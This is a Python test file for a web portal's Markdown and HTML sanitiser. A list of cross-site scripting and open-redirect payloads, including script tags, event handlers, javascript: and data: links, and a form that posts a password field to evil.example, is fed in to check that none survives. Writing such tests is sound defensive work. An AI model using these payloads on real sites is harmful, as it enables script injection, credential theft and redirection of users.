"""Nothing that people write runs, leads astray or calls another host on our pages (C11)."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chm_portal.common.safe_text import ATTRIBUTES, PLAIN, REL, USER_TAGS, clean_html, is_allowed_address, user_html

UPLOADS = ("/files/",)
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://portal.example@evil.example/'>x</a>",
    "<p style='background:url(javascript:alert(1))' onclick='alert(1)'>x</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example'</style>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<video><source onerror='alert(1)'></video><details ontoggle=alert(1) open>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src='https://evil.example/count.gif'>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](http://evil.example)",
    "[x](https://portal.example@evil.example)",
    "[x](https://[)",
    "[x](file:///etc/passwd)",
    "[x](mailto:a@example.org?subject=x)",
    "![x](https://evil.example/count.gif)",
    "![x](javascript:alert(1))",
    "![x](/files/../accounts/logout/)",
    "![x](//evil.example/files/x.png)",
    '![x](/files/x.png "\\" onerror=alert(1) ")',
    "![<script>alert(1)</script>](/files/x.png)",
    "[![x](https://evil.example/a.png)](https://good.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<https://good.example/\u202egnp.exe>",
    "```<script>\nalert(1)\n```",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Reads HTML as a browser would and notes each element with its attributes."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Inspector(html).elements:
        assert tag in USER_TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel", "class"} if tag == "a" else set())
        if tag == "a":
            assert attributes.get("class", PLAIN) == PLAIN
            assert attributes["rel"] == REL
            assert is_allowed_address(attributes.get("href", ""))
        if tag == "img":
            assert attributes.get("src", "/files/").startswith("/files/") and ".." not in attributes.get("src", "")
    assert "evil.example" not in "".join(attributes.get("src", "") for _tag, attributes in Inspector(html).elements)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_as_markdown_and_as_html(attack):
    assert_harmless(user_html(attack, UPLOADS))
    assert_harmless(clean_html(attack, UPLOADS))
    assert_harmless(user_html(f"> * {attack}\n\n# {attack}", UPLOADS))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "*", "_", "[", "](", ")", "![", "`", "<", ">", "\n", " ", "'", '"', "&"]), max_size=6
    )
)
def test_attacks_put_together_are_harmless_and_cleaning_twice_changes_nothing(pieces):
    html = user_html("".join(pieces), UPLOADS)
    assert_harmless(html)
    assert clean_html(html, UPLOADS) == html


@given(st.text())
def test_any_text_gives_clean_html(text):
    html = user_html(text)
    assert_harmless(html)
    assert clean_html(html) == html


def test_ordinary_markdown_becomes_what_its_writer_meant():
    html = user_html("# Title\n\nSome **strong** text, see [the note](/en/records/CHM-RES-BE-12/).\n\n* one\n* two")
    assert "<h3>Title</h3>" in html
    assert "<strong>strong</strong>" in html
    assert f'<a href="/en/records/CHM-RES-BE-12/" rel="{REL}">the note</a>' in html
    assert html.count("<li>") == 2


@pytest.mark.parametrize(
    "address",
    ["https://www.cbd.int/chm/?a=1#b", "/en/", "#top", "?page=2", "records/", "https://xn--e1afmkfd.example/"],
)
def test_our_own_pages_and_https_addresses_are_allowed(address):
    assert is_allowed_address(address)


def test_our_own_address_is_allowed_whatever_its_scheme(settings):
    settings.PORTAL_ADDRESS = "http://127.0.0.1:8000"
    assert is_allowed_address("http://127.0.0.1:8000/en/")
    assert not is_allowed_address("http://127.0.0.1:8000.evil.example/")


def test_a_forbidden_link_keeps_its_words_and_its_address_as_text():
    for address in ("http://example.org/a", "mailto:a@example.org", "ftp://example.org/"):
        assert user_html(f"[the report]({address})") == f"<p>the report ({address})</p>\n"
    assert user_html("<http://example.org/a>") == "<p>http://example.org/a</p>\n"


def test_an_image_of_ours_is_shown_and_a_foreign_one_is_a_link():
    assert '<img src="/files/7/map.png" alt="Map">' in user_html("![Map](/files/7/map.png)", UPLOADS)
    html = user_html("![Map](https://maps.example/map.png)", UPLOADS)
    assert "<img" not in html and '<a href="https://maps.example/map.png"' in html and ">Map</a>" in html
    assert "<img" not in user_html("![Map](/files/7/map.png)")


def test_a_foreign_image_inside_a_link_is_the_words_of_that_link():
    html = user_html("[![Logo](https://a.example/logo.png)](https://b.example/)", UPLOADS)
    assert html == f'<p><a href="https://b.example/" rel="{REL}">Logo</a></p>\n'


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "*a_" * 7_000, "> " * 10_000, "![](" * 5_000, "`" * 20_000, "<" * 20_000]
)
def test_texts_made_to_be_slow_come_to_an_end(text):
    assert_harmless(user_html(text))


@pytest.mark.parametrize(
    "text, address",
    [
        ("See https://www.cbd.int/chm/?a=1, please.", "https://www.cbd.int/chm/?a=1"),
        ("(https://a.example/b_(c))", "https://a.example/b_(c)"),
        ("见https://a.example/路径。然后", "https://a.example/%E8%B7%AF%E5%BE%84"),
        ("انظر https://a.example/x، ثم", "https://a.example/x"),
        ("«https://a.example/x»", "https://a.example/x"),
        ("**https://a.example/x_y_z**", "https://a.example/x_y_z"),
    ],
)
def test_an_address_written_as_it_is_becomes_a_link_that_ends_where_it_ends(text, address):
    links = [attributes["href"] for tag, attributes in Inspector(user_html(text)).elements if tag == "a"]
    assert links == [address]


@pytest.mark.parametrize(
    "text",
    [
        "example.com and www.example.com",
        "me@example.org mailto:me@example.org",
        "//evil.example/x ftp://evil.example/x",
        "`https://a.example/`",
        "    https://a.example/",
        "http://a.example/x",
        "https://portal.example@evil.example/",
        "javascript:alert(1)",
    ],
)
def test_what_is_no_https_address_written_out_stays_text(text):
    assert "<a" not in user_html(text)
    assert "example" in user_html(text) or "alert" in user_html(text)


def test_print_repeats_the_address_only_of_links_that_have_words_of_their_own():
    html = user_html("https://a.example/ <https://b.example/> [c](https://c.example/)")
    assert html.count('class="address"') == 2
    assert f'<a href="https://c.example/" rel="{REL}">c</a>' in html
    assert "class" not in clean_html('<p class="address"><a class="button" href="/">x</a></p>').replace('class=""', "")


def test_an_address_in_a_link_is_no_second_link():
    assert user_html("[https://a.example/](https://b.example/) <https://c.example/>").count("<a ") == 2


def test_numbers_that_refer_to_something_become_links_everywhere_but_in_code_and_links():
    references = {2: "/x/2/", 12: "/x/12/"}
    html = user_html("#12 and (#2), **#2** [#2](/y/) `#2` a#2 &#2; /#2 #2b #3 #12.\n\n    #2\n\n- #2", (), references)
    assert html.count(f'<a href="/x/12/" rel="{REL}">#12</a>') == 2
    assert html.count(f'<a href="/x/2/" rel="{REL}">#2</a>') == 3
    assert html.count("<a ") == 6
    assert "#3" in html
    assert "<a" not in user_html("#12")
